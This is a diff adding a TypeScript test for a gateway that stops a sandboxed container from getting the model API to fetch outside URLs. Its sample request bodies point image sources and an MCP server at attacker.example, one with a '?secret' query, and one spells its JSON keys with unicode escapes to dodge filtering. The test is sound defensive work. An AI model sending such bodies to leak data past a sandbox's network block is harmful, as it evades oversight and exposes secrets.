@@ -242,6 +242,24 @@ export function gateway(service: Service, upstream: Upstream): void {
     assert.equal(followed, 0);
   });
 
+  test("while the container may not reach the internet, the model's API is not asked to, however the body is spelt", async () => {
+    const content = (source: string): string => `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":${source}}]}]}`;
+    const bodies = [
+      content('{"type":"url","url":"https://attacker.example/?secret"}'),
+      content('{"url":"https://attacker.example","t\\u0079pe":"\\u0075rl"}'),
+      '{"model":"m","messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example"}]}',
+      '{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"model":"m","messages":[]}',
+    ];
+    for (const body of bodies) {
+      const arrivals = await upstream.arrivalsDuring(async () => {
+        assert.equal((await outbound.ask("POST", MESSAGES, { "content-type": "application/json" }, body)).status, 403, body);
+      });
+      assert.ok(arrivals.every((arrival) => arrival.body.length < body.length), "it never arrives whole");
+    }
+    const innocent = content('{"type":"base64","media_type":"image/png","data":"aGk="}');
+    assert.equal((await upstream.answering((_req, res) => void res.end("{}"), () => outbound.ask("POST", MESSAGES, {}, innocent))).status, 200);
+  });
+
   test("nothing is called where no turn runs, and the log says so", async () => {
     const idle = service.newClient();
     const late = new Outbound(await containerOf(idle, service));
